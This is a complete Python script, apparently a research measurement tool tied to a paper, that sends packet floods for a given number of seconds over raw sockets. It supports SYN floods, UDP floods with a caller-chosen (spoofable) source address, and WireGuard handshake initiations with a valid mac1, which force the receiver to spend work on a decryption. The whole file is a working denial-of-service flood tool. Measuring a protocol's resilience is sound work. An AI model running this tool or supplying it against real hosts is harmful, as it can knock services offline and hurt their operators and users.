#!/usr/bin/env python3
"""Sends as many packets as it can for some seconds, and prints how many. Needs raw sockets.

usage: flood.py SECONDS syn SOURCE TARGET PORT...          first segments of TCP connections, each from another port
       flood.py SECONDS udp SOURCE TARGET PORT...          datagrams, each from another port
       flood.py SECONDS initiation SOURCE TARGET PORT SOURCE-PORT NODE-KEY
                                                           WireGuard handshakes (paper, section 5.4.2) whose mac1 is right for
                                                           NODE-KEY (hexadecimal), so that they cost the receiver a decryption
"""
import hashlib
import ipaddress
import os
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, protocol, payload):
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.getrandbits(16), 0, 64, protocol, 0, source, target) + payload


def syn(source, target, ports):
    header = struct.pack(">HHIIBBHHH", random.randint(1024, 65535), random.choice(ports), random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    sum_ = checksum(struct.pack(">4s4sBBH", source, target, 0, 6, len(header)) + header)
    return packet(source, target, 6, header[:16] + struct.pack(">H", sum_) + header[18:])


def datagram(source, target, source_port, port, payload):
    return packet(source, target, 17, struct.pack(">HHHH", source_port, port, 8 + len(payload), 0) + payload)  # without a checksum


def initiation(mac1_key):
    body = b"\x01\0\0\0" + os.urandom(4 + 32 + 48 + 28)
    return body + hashlib.blake2s(body, key=mac1_key, digest_size=16).digest() + bytes(16)


def main(seconds, kind, source, target, *more):
    source, target = ipaddress.ip_address(source).packed, ipaddress.ip_address(target).packed
    if kind == "syn":
        ports = list(map(int, more))
        make = lambda: syn(source, target, ports)  # noqa: E731
    elif kind == "udp":
        ports = list(map(int, more))
        make = lambda: datagram(source, target, random.randint(1024, 65535), random.choice(ports), os.urandom(200))  # noqa: E731
    else:
        port, source_port = int(more[0]), int(more[1])
        mac1_key = hashlib.blake2s(b"mac1----" + bytes.fromhex(more[2])).digest()
        make = lambda: datagram(source, target, source_port, port, initiation(mac1_key))  # noqa: E731
    to = str(ipaddress.ip_address(target))
    sent, end = 0, time.monotonic() + float(seconds)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while time.monotonic() < end:
            for _ in range(50):
                try:
                    raw.sendto(make(), (to, 0))
                    sent += 1
                except OSError:  # the queue is full
                    time.sleep(0.001)
    print(sent)


main(*sys.argv[1:])
